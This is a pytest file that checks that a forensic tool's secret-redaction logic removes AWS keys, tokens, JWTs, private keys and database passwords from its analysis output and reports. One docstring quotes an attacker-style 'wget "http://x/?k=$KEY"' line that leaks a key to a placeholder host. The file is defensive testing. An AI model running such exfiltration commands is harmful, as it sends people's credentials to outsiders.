# -*- coding: utf-8 -*-
# Copyright: forensic.checkpoint contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""Issue 16, secrets never in plain text with redact_secrets (the default): every credential
shape, whole or cut by a window edge, and every value the analysis saw as secret, wherever it
shows (findings, file names, warnings, the HTML/Markdown/JSON report). Secrets are random per run."""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import json
import string

import pytest

import hostile_round2 as h2
import module_outputs
from ansible_collections.forensic.checkpoint.plugins.module_utils.findings.redact import scrub_all

B64 = string.ascii_letters + string.digits + "/+"


def _shapes():
    """(text planting the secret, secret) for each credential shape, in several spellings."""
    aws, tok, pw = h2.token(40, B64), h2.token(36), h2.token(20)
    jwt = "eyJ" + h2.token(30) + ".eyJ" + h2.token(60) + "." + h2.token(43)
    pem = "\n".join(h2.token(64, B64) for _line in range(3))
    cases = [
        ('{"AccessKeyId": "AKIAIOSFODNN7EXAMPLE", "SecretAccessKey": "%s"}' % aws, aws),
        ('{"secretAccessKey":"%s"}' % aws, aws),
        ("[default]\naws_secret_access_key = %s\n" % aws, aws),
        ("AWS_SECRET_ACCESS_KEY=%s" % aws, aws),
        ("Authorization: Bearer %s" % tok, tok),
        ("authorization: bearer %s" % tok, tok),
        ("users:\n- name: admin\n  user:\n    token: %s\n" % tok, tok),
        ("token = %s" % jwt, jwt),
        ("x %s y" % jwt, jwt),
        ("-----BEGIN RSA PRIVATE KEY-----\n%s\n-----END RSA PRIVATE KEY-----" % pem, pem.replace("\n", "")),
        ("-----BEGIN OPENSSH PRIVATE KEY-----\n%s" % pem, pem.replace("\n", "")),
        ("ghp_%s" % tok, tok), ("github_pat_%s" % tok, tok), ("glpat-%s" % tok[:20], "glpat-" + tok[:20]),
        ("xoxb-%s" % tok, tok), ("sk_live_%s" % tok, tok), ("rk_test_%s" % tok, tok), ("hvs.%s" % tok, tok),
        ("password=%s" % pw, pw), ("DB_PASSWORD: '%s'" % pw, pw), ("secret=%s&x=1" % pw, pw),
        ("https://h/?token=%s" % tok, tok), ('"client_secret": "%s"' % tok, tok),
        # A GCP service account's key: PEM lines joined by \n escapes inside JSON.
        ('"private_key": "-----BEGIN PRIVATE KEY-----\\n%s\\n-----END PRIVATE KEY-----\\n"' % pem.replace(
            "\n", "\\n"), pem.replace("\n", "\\n")),
        ("    client-key-data: %s\n" % aws, aws), ("      access-token: %s\n" % tok, tok),
        ("id-token: %s" % jwt, jwt), ("X-Api-Key: %s" % tok, tok), ("AccountKey=%s;" % aws, aws),
        ("postgres://admin:%s@db:5432/app" % pw, pw), ("DATABASE_URL=mysql://u:%s@h/x" % pw, pw),
        ("https://hooks.slack.com/services/T0%s/B0%s/%s" % (tok[:8], tok[8:16], tok[16:]), tok[16:]),
    ]
    return cases


@pytest.mark.parametrize("case", range(len(_shapes())))
def test_every_shape_is_redacted_whole_and_cut_by_a_window_edge(case):
    text, secret = _shapes()[case]
    assert not h2.leaked(secret, json.dumps(scrub_all({"evidence": text})))
    start = text.index(secret[:8]) + len(secret) // 2
    cut = text[:start]  # a window ending inside the secret
    assert not h2.leaked(secret[:len(secret) // 2], scrub_all(cut), size=min(16, len(secret) // 2))
    assert scrub_all(scrub_all(text)) == scrub_all(text)  # runs twice without damage


def test_a_seen_secret_is_redacted_anywhere_even_cut():
    secret = h2.token(40, B64)
    texts = ["file-%s.html" % secret, secret[13:] + " next", "prev " + secret[:29], {secret: [secret]}]
    out = json.dumps(scrub_all(texts, [secret]))
    assert not h2.leaked(secret, out, size=8)


def test_module_redacts_secret_file_names_context_windows_and_report(archives, tmp_path):
    """The lookup archive's env holds an AWS secret; the attacker also left files named after it
    (wget "http://x/?k=$KEY") and a file holding an SDK-style JSON secret and a bearer token next to
    an AKIA id (the context window of the id's finding reaches them)."""
    env_secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"  # the lookup archive's AWS_SECRET_ACCESS_KEY
    sdk, bearer = h2.token(40, B64), h2.token(48)
    content = ('{"AccessKeyId":"AKIAIOSFODNN7EXAMPLE","SecretAccessKey":"%s"}\nAuthorization: Bearer %s\n'
               % (sdk, bearer)).encode()
    archive = h2.build(archives["lookup"], str(tmp_path / "planted.tar"), lambda members: h2.with_deleted(
        h2.with_rootfs(members, {"tmp/index.html?k=" + env_secret.replace("/", "_"): b"x",
                                 "tmp/creds.json": content, "tmp/k=" + sdk[:30]: b"y"}),
        ["/etc/issue", "/tmp/index.html?k=" + env_secret]))
    before = h2.sha256(archive)
    outputs = []
    for fmt in ("html", "markdown", "json"):
        report = str(tmp_path / ("report." + fmt))
        result = module_outputs.run_module("checkpoint_analyze", {"path": archive, "report": report,
                                                                  "report_format": fmt})
        assert not result.get("failed"), result.get("msg")
        with open(report) as handle:
            outputs += [json.dumps(result), handle.read()]
    ids = [item["id"] for item in result["analysis"]["findings"]]
    assert "secret.aws-access-key-id" in ids or "secret.bearer-token" in ids  # the windows were there
    for secret in (env_secret, sdk, bearer):  # (the "_" spelling shares a 18-character run with it)
        for text in outputs:
            assert not h2.leaked(secret, text), (secret, h2.leaked(secret, text)[:1])
    assert h2.sha256(archive) == before


def test_failure_messages_pass_the_redaction_too(tmp_path):
    """A path that carries a credential (a download saved as ``?token=...``) fails redacted."""
    secret = h2.token(32)
    path = str(tmp_path / ("dl?token=%s" % secret))
    result = module_outputs.run_module("checkpoint_analyze", {"path": path})
    # (Ansible's ``invocation`` echoes the user's own arguments: only what the module says is checked)
    assert result["failed"] and "dl?token=" in result["msg"] and not h2.leaked(secret, result["msg"])
